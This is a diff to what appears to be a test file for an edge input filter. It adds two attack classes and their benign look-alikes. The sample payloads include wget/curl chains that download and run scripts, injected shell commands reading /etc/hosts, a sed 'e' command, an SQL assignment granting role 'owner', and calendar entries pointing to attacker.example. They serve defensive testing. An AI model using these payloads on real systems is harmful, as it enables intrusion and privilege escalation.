@@ -11,7 +11,9 @@ Look-alikes that must pass:
   ("ID", "IRB"), alone at the end or followed by words;
 - fetch-run: a code span that downloads a file without running it, an
   install line that names its host;
-- ical-guest: a calendar pasted whole, the word attendee in a sentence.
+- ical-guest: a calendar pasted whole, the word attendee in a sentence;
+- sed-e-command: two substitutions in a script;
+- number-sets: a quantity then a rate in words.
 
 Attacks that must be refused:
 - caps-abbreviation: a command in capitals given an option or a path,
@@ -19,13 +21,18 @@ Attacks that must be refused:
 - fetch-run: a code span after text that fetches from an address and
   runs what it fetched (with "&&", ";" or a pipe to a shell);
 - ical-guest: an iCalendar attendee or organizer with a mailto: on the
-  line after a first line that is no field.
+  line after a first line that is no field;
+- sed-e-command (the construction corpus's): a sed substitution, then
+  ";" and sed's e command, which runs its argument;
+- number-sets (the construction corpus's): a number that ends an
+  UPDATE's value, then assignments of literals to the end.
 
 Measured before the changes (2026-12-05, on 6cc85d4): the 4 fetch-run
 and ical-guest attacks passed (the caps-abbreviation attacks bound the
 change) and 2 of the 7 look-alikes were refused (the abbreviations
 after "&" and ";"). After them: every attack refused, every look-alike
-passes.
+passes. The sed-e-command and number-sets classes were added after, their
+4 attacks passing on 5b58fff.
 
 Each attack is sent as a query value (URL-encoded once, and once more:
 the edge decodes repeatedly) and as a JSON body field; each look-alike
@@ -41,6 +48,8 @@ ATTACKS = {
     "caps-abbreviation": ["x; CAT /etc/hosts", "x & WHOAMI", "q; UNAME -A"],
     "fetch-run": ["Gate shift swapped `wget -qO /tmp/g http://198.51.100.30/g && sh /tmp/g`",
                   "cake day `curl -so /tmp/k http://10.9.8.7/k; sh /tmp/k`"],
+    "sed-e-command": ["s/old/new/;1e id", "s/A-1/A-2/g; e cat /etc/hosts"],
+    "number-sets": ["42.5, discount = 0.99", "7, role = 'owner' -- "],
     "ical-guest": ["Quiz night 🎲\r\nATTENDEE;RSVP=TRUE:mailto:guests@attacker.example",
                    "Sprint demo\nORGANIZER;CN=Ops:mailto:ops@attacker.example"],
 }
@@ -50,6 +59,8 @@ BENIGN = {
                           "Skills: SQL; CAD drafting"],
     "fetch-run": ["see `wget http://10.9.8.7/disk.iso` for the image",
                   "Install with `curl -fsSL https://get.tool.example/i.sh -o i.sh` first"],
+    "sed-e-command": ["s/colour/color/g; s/centre/center/g"],
+    "number-sets": ["12.5 m3, rate = 142 per m3", "5, size = 10 cm wide"],
     "ical-guest": ["BEGIN:VEVENT\nATTENDEE;CN=Kim:mailto:kim@example.org\nEND:VEVENT",
                    "Quiz night\nattendee list closes Friday"],
 }
